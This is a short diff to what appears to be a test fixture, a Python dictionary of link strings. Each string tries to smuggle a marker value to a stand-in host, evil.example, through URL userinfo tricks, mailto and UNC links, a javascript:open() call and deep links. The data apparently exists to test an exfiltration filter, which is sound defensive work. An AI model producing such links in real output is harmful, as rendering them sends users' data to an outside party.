@@ -177,7 +177,7 @@ ATTEMPTS: Final[dict[str, tuple[str, ...]]] = {
         "https://github.com@evil.example/?d=4711",
         "https://evil.example/https://github.com/?d=4711",
         "[mail](mailto:a@evil.example?subject=4711) or 4711@evil.example",
-        "[call](tel:4711) tg://resolve?domain=evil&start=4711 javascript:open('//evil.example/4711')",
+        "[call](tel:4711) tg://resolve?start=4711 javascript:open('//evil.example/4711')",
         "[docs](//evil.example/?d=4711)",
         "[docs](\\\\evil.example/4711)",
         "https://known.example/a?x=1&d=4711",
